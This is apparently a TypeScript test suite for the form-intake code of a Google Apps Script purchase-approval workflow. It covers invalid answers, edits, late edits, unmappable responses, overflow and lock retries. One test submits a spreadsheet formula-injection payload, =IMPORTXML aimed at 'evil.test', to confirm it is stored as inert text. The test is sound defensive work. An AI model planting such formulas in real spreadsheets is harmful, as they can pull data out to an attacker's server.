import { OWNER } from '../workspace';
import { MAX, RITA } from '../fixtures';
import { intakeWorld, type IntakeWorld } from './helpers';
import { flushOutbox } from '../../../../src/gas/mail/outbox-sender';
import { applyActionCommand } from '../../../../src/gas/commands/requests';
import { reprocessIntakeErrors, retryPendingIntake, pendingIntake } from '../../../../src/gas/intake';

/** A hand-made form with no validation at all: Forms lets anything through, Handoff has to judge. */
function looseForm(t: IntakeWorld): string {
  const formId = t.as(OWNER, () => {
    const f = t.services.FormApp.create('Loose purchase form');
    f.setCollectEmail(true).setAllowResponseEdits(true);
    for (const title of ['Item', 'Amount', 'Cost centre', 'Justification', 'Needed by']) f.addTextItem().setTitle(title);
    return f.getId();
  });
  t.connect(formId);
  return formId;
}

const bad = { Item: 'Laptop', Amount: 'lots', 'Cost centre': 'Legal', 'Needed by': '31/02/2026' };
/** The Fields JSON, joined with its continuation cells ("Fields (2)", ...). */
const fields = (t: IntakeWorld, i = 0) => {
  const r = t.rows('Requests')[i]!;
  return JSON.parse([r.Fields, ...[2, 3, 4, 5].map((n) => r[`Fields (${n})`] ?? '')].join('')) as Record<string, unknown>;
};
const meta = (t: IntakeWorld, i = 0) =>
  JSON.parse(String(t.rows('Requests')[i]!.Meta)) as { intakeProblems: Array<{ path: string; message: string }> };

describe('intake: bad answers still make a request, waiting in Needs info', () => {
  it('lists each problem, emails the requester each problem and the edit link', () => {
    const t = intakeWorld();
    const formId = looseForm(t);
    const sub = t.w.forms.submitAs(formId, RITA, bad);
    expect(sub.runs[0]!.result).toMatchObject({ status: 'created', state: 'needs_info' });
    const [req] = t.rows('Requests');
    expect(req).toMatchObject({ State: 'needs_info', Channel: 'form', Assignee: RITA });
    const problems = meta(t)
      .intakeProblems.map((p) => p.path)
      .sort();
    expect(problems).toEqual(['amount', 'costCenter', 'justification', 'neededBy']);
    expect(fields(t)).toMatchObject({ item: 'Laptop', amount: 'lots', costCenter: 'Legal' }); // kept as given, visible
    expect(t.rows('Audit').map((a) => a.Action)).toEqual(['create', 'intake_problems']);
    expect(t.rows('Outbox').map((o) => o.Kind)).toEqual(['needs_info']);

    t.as(OWNER, () => flushOutbox(t.ctx()));
    const mail = t.w.mail.inbox(RITA).find((m) => /needs more information/.test(m.subject))!;
    const body = String(mail.body);
    for (const p of meta(t).intakeProblems) expect(body).toContain(p.message);
    expect(body).toContain(sub.editResponseUrl);
    expect(String(mail.htmlBody)).toContain(sub.editResponseUrl.replace(/&/g, '&amp;'));
  });

  it('an edit that fixes some problems updates the request, re-lists the rest, audits the diff; fixing all leaves Needs info', () => {
    const t = intakeWorld();
    const formId = looseForm(t);
    const sub = t.w.forms.submitAs(formId, RITA, bad);
    const partial = t.w.forms.editAs(sub.responseId, { Amount: '1,250.50', 'Cost centre': 'Sales' });
    expect(partial.runs[0]!.result).toMatchObject({ status: 'updated', state: 'needs_info' });
    expect(
      meta(t)
        .intakeProblems.map((p) => p.path)
        .sort(),
    ).toEqual(['justification', 'neededBy']);
    expect(fields(t)).toMatchObject({ amount: 1250.5, costCenter: 'Sales' });
    const edit = t.rows('Audit').at(-1)!;
    expect(edit).toMatchObject({ Action: 'edit_fields', Actor: RITA, Method: 'form_response', Revision: 2 });
    expect(JSON.parse(String(edit.Changes))).toEqual([
      { field: 'amount', before: 'lots', after: 1250.5 },
      { field: 'costCenter', before: 'Legal', after: 'Sales' },
    ]);
    expect(t.rows('Outbox').filter((o) => o.Kind === 'needs_info')).toHaveLength(2); // told again, with what is left

    const fixed = t.w.forms.editAs(sub.responseId, { Justification: 'new hire', 'Needed by': '2026-02-01' });
    expect(fixed.runs[0]!.result).toMatchObject({ status: 'resubmitted', state: 'approval' });
    const [req] = t.rows('Requests');
    expect(req).toMatchObject({ State: 'approval', 'Pending approvers': MAX, Revision: 3 });
    expect(meta(t).intakeProblems).toEqual([]);
    expect(t.rows('Audit').at(-1)!.Action).toBe('resubmit');
    expect(t.rows('Outbox').at(-1)).toMatchObject({ Kind: 'approval_requested', To: MAX });
    expect(t.rows('Requests')).toHaveLength(1);
  });

  it('an edit after the request moved on is recorded for review; the approved request is not changed', () => {
    const t = intakeWorld();
    const link = t.generate();
    const sub = t.w.forms.submitAs(link.formId, RITA, {
      Item: 'Laptop',
      Amount: '1200',
      'Cost centre': 'Engineering',
      Justification: 'new hire',
    });
    // Before any decision, an edit in the start state applies.
    const early = t.w.forms.editAs(sub.responseId, { Vendor: 'Acme' });
    expect(early.runs[0]!.result).toMatchObject({ status: 'updated', state: 'approval' });
    expect(fields(t)).toMatchObject({ vendor: 'Acme' });
    t.as(MAX, () =>
      applyActionCommand(t.ctx(), {
        requestId: 'PR-000001',
        expectedRevision: 2,
        action: { type: 'approve' },
        actor: { email: MAX, method: 'session' },
      }),
    );
    const before = t.rows('Requests')[0];
    expect(before!.State).toBe('ordering');
    const late = t.w.forms.editAs(sub.responseId, { Amount: '9999' }, { deliveries: 2 });
    expect(late.runs.map((r) => (r.result as { status: string }).status)).toEqual(['review', 'review']);
    expect(t.rows('Requests')[0]).toEqual(before);
    const review = t.rows('Intake errors');
    expect(review).toHaveLength(1); // twice delivered, recorded once
    expect(review[0]).toMatchObject({ Kind: 'late_edit', Status: 'open', Request: 'PR-000001', 'Response ID': sub.responseId });
    expect(String(review[0]!.Reason)).toContain('Amount: 1200 → 9999');
    expect(t.rows('Audit').filter((a) => a.Action === 'intake_late_edit')).toHaveLength(1);
  });
});

describe('intake: nothing is lost', () => {
  it('unmappable responses go whole to Intake errors, operators are alerted once, and re-processing after the fix creates the requests', () => {
    const t = intakeWorld();
    const link = t.generate();
    const form = t.form(link.formId);
    t.as(OWNER, () => form.deleteItem(form.getItems().find((i) => i.getTitle() === 'Justification')!));
    const subs = [1, 2, 3].map((n) => t.w.forms.submitAs(link.formId, RITA, { Item: `Thing ${n}`, Amount: '10', 'Cost centre': 'Sales' }));
    expect(subs.map((s) => (s.runs[0]!.result as { status: string }).status)).toEqual(['unmappable', 'unmappable', 'unmappable']);
    expect(t.rows('Requests')).toHaveLength(0);
    const errors = t.rows('Intake errors');
    expect(errors).toHaveLength(3);
    expect(errors[0]).toMatchObject({ Kind: 'unmappable', Status: 'open', Workflow: 'purchase-approval', Respondent: RITA });
    expect(String(errors[0]!.Reason)).toContain('"Justification" is no longer on it');
    const raw = JSON.parse(String(errors[1]!['Raw response'])) as { answers: Array<{ title: string; value: string }> };
    // Unanswered text and date questions come with '' (FormResponse.getItemResponses), the others are left out.
    expect(raw.answers.map((a) => [a.title, a.value])).toEqual([
      ['Item', 'Thing 2'],
      ['Amount', '10'],
      ['Vendor', ''],
      ['Cost centre', 'Sales'],
      ['Needed by', ''],
      ['Quote', ''],
      ['PO number', ''],
    ]);
    const alerts = t.w.mail.outbox().filter((m) => /need attention/.test(m.subject));
    expect(alerts).toHaveLength(1); // once, not once per response

    // The admin fixes the mapping (connect again: the missing question is now an unmatched field), then re-processes.
    t.connect(link.formId);
    const r = t.as(OWNER, () => reprocessIntakeErrors(t.ctx()));
    expect(r.reprocessed.map((o) => o.requestId)).toEqual(['PR-000001', 'PR-000002', 'PR-000003']);
    expect(r.stillOpen).toBe(0);
    expect(t.rows('Requests').map((q) => q.State)).toEqual(['needs_info', 'needs_info', 'needs_info']); // justification is required
    expect(t.rows('Intake errors').map((e) => e.Status)).toEqual(['reprocessed', 'reprocessed', 'reprocessed']);
    // A new episode alerts again.
    t.as(OWNER, () => form.deleteItem(form.getItems().find((i) => i.getTitle() === 'Vendor')!));
    t.w.forms.submitAs(link.formId, RITA, { Item: 'Again', Amount: '10', 'Cost centre': 'Sales' });
    expect(t.w.mail.outbox().filter((m) => /need attention/.test(m.subject))).toHaveLength(2);
  });

  it('a deleted workflow: the response is kept with the reason', () => {
    const t = intakeWorld();
    const link = t.generate();
    const config = t.rows('Config');
    const statusCol = Object.keys(config[0]!).indexOf('Status');
    t.sheet.write('Config', `${String.fromCharCode(65 + statusCol)}2`, [['retired']]);
    const sub = t.w.forms.submitAs(link.formId, RITA, { Item: 'Laptop', Amount: '5', 'Cost centre': 'Sales', Justification: 'x' });
    expect(sub.runs[0]!.result).toMatchObject({ status: 'unmappable' });
    expect(String(t.rows('Intake errors')[0]!.Reason)).toContain('no longer exists');
  });

  it('answers that look like formulas are stored as text; long answers are kept whole to 50,000 characters, the rest in the audit log', () => {
    const t = intakeWorld();
    const link = t.generate();
    const long = Array.from({ length: 65_000 }, (_, i) => String.fromCharCode(97 + (i % 26))).join('');
    t.w.forms.submitAs(link.formId, RITA, {
      Item: '=IMPORTXML("http://evil.test","//a")',
      Amount: '3',
      'Cost centre': 'Sales',
      Justification: long,
    });
    const ss = t.w.kernel.meter.unmetered(() => t.services.SpreadsheetApp.openById(t.spreadsheetId).getSheetByName('Requests')!);
    const summaryCol = (t.sheet.values('Requests')[0] as string[]).indexOf('Summary') + 1;
    const cell = t.w.kernel.meter.unmetered(() => ss.getRange(2, summaryCol));
    expect(cell.getFormula()).toBe('');
    expect(cell.getValue()).toBe('=IMPORTXML("http://evil.test","//a")');
    const f = fields(t);
    expect(f.item).toBe('=IMPORTXML("http://evil.test","//a")');
    expect((f.justification as string).length).toBe(50_000);
    const overflow = t
      .rows('Audit')
      .filter((a) => a.Action === 'intake_overflow')
      .map((a) => JSON.parse(String(a.Details)) as { text: string; offset: number });
    expect(overflow.length).toBeGreaterThan(0);
    expect((f.justification as string) + overflow.map((o) => o.text).join('')).toBe(long);
    expect(overflow[0]!.offset).toBe(50_000);
  });

  it('lock not had in time: the response goes to the pending list; the next timer run processes it', () => {
    const t = intakeWorld();
    const link = t.generate();
    const busy = t.w.locks.holdScriptLock();
    const sub = t.w.forms.submitAs(link.formId, RITA, { Item: 'Laptop', Amount: '5', 'Cost centre': 'Sales', Justification: 'x' });
    expect(sub.runs[0]!.result).toMatchObject({ status: 'pending' });
    expect(t.rows('Requests')).toHaveLength(0);
    expect(t.as(OWNER, () => pendingIntake(t.ctx())).map((p) => p.responseId)).toEqual([sub.responseId]);
    // Still busy at the next run: still pending, nothing lost.
    expect(t.as(OWNER, () => retryPendingIntake(t.ctx())).stillPending).toBe(1);
    busy.release();
    const r = t.as(OWNER, () => retryPendingIntake(t.ctx()));
    expect(r.processed.map((o) => o.status)).toEqual(['created']);
    expect(t.rows('Requests').map((q) => q.ID)).toEqual(['PR-000001']);
    expect(t.as(OWNER, () => pendingIntake(t.ctx()))).toEqual([]);
    // A late duplicate delivery of the same response does not create a second request.
    expect(t.as(OWNER, () => retryPendingIntake(t.ctx())).processed).toEqual([]);
  });
});
